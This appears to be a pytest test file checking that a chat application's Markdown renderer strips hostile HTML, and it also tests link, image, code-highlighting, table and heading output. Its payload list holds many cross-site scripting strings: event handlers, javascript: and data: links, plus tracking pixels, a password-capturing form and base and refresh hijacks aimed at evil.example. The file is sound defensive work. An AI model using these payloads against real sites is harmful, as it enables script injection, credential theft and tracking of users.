import re
from html.parser import HTMLParser

import pytest

from chat.rendering import render_markdown

# A corpus of what has worked against Markdown renderers and sanitisers elsewhere.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext></p><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](https://evil.example/pixel.png" onerror="alert(1))',
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    '``` python" onclick="alert(1)\nx = 1\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|2|",
    "# <script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><input name=password><button>ok",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div hx-get='/accounts/logout/' hx-trigger=load>",
    'https://evil.example/"onmouseover=alert(1)//',
    "\u0000<script>alert(1)</script>",
]
ALLOWED = {"href", "title", "rel", "target", "class", "start", "data-align", "data-language"}


class Elements(HTMLParser):
    """Collects every element as a browser would see it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_survives(payload: str) -> None:
    for tag, attributes in Elements(render_markdown(f"before {payload}\n\n{payload}\n\nafter")).found:
        assert tag not in {"script", "img", "svg", "iframe", "style", "form", "input", "button", "base", "meta", "math"}
        assert attributes.keys() <= ALLOWED
        if "href" in attributes:
            assert re.match(r"(https?|mailto):", attributes["href"] or "")


def test_links_open_safely_elsewhere() -> None:
    html = render_markdown('[there](https://ok.example/a "title")')
    assert html == (
        '<p><a href="https://ok.example/a" title="title" target="_blank" rel="noopener noreferrer nofollow">'
        "there</a></p>\n"
    )


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("see https://ok.example/a.", "https://ok.example/a"),
        ("(https://ok.example/a)", "https://ok.example/a"),
        ("https://ok.example/a_(b)!", "https://ok.example/a_(b)"),
        ("<https://ok.example/a>", "https://ok.example/a"),
        ("[named](https://ok.example/a)", "https://ok.example/a"),
    ],
)
def test_bare_addresses_become_links_once(text: str, address: str) -> None:
    links = [attributes["href"] for tag, attributes in Elements(render_markdown(text)).found if tag == "a"]
    assert links == [address]


def test_addresses_in_code_stay_text() -> None:
    assert "<a" not in render_markdown("`https://ok.example`")


def test_images_become_links() -> None:
    html = render_markdown("![a cat](https://ok.example/cat.png)")
    assert 'class="image-link" href="https://ok.example/cat.png"' in html
    assert ">a cat</a>" in html


def test_code_is_highlighted_by_classes_and_unknown_languages_are_left_plain() -> None:
    html = render_markdown("```python\ndef f(): pass\n```\n\n```nosuch\na < b\n```")
    assert '<pre data-language="python"><code><span class="hl-k">def</span>' in html
    assert '<pre data-language="nosuch"><code>a &lt; b\n</code></pre>' in html
    assert "style=" not in html


def test_tables_scroll_and_align_without_inline_styles() -> None:
    html = render_markdown("|a|b|\n|:-|-:|\n|1|2|")
    assert html.startswith('<div class="table-scroll"><table>')
    assert '<td data-align="right">2</td>' in html


def test_headings_are_below_those_of_the_page() -> None:
    assert render_markdown("# One\n\n##### Five") == "<h3>One</h3>\n<h6>Five</h6>\n"
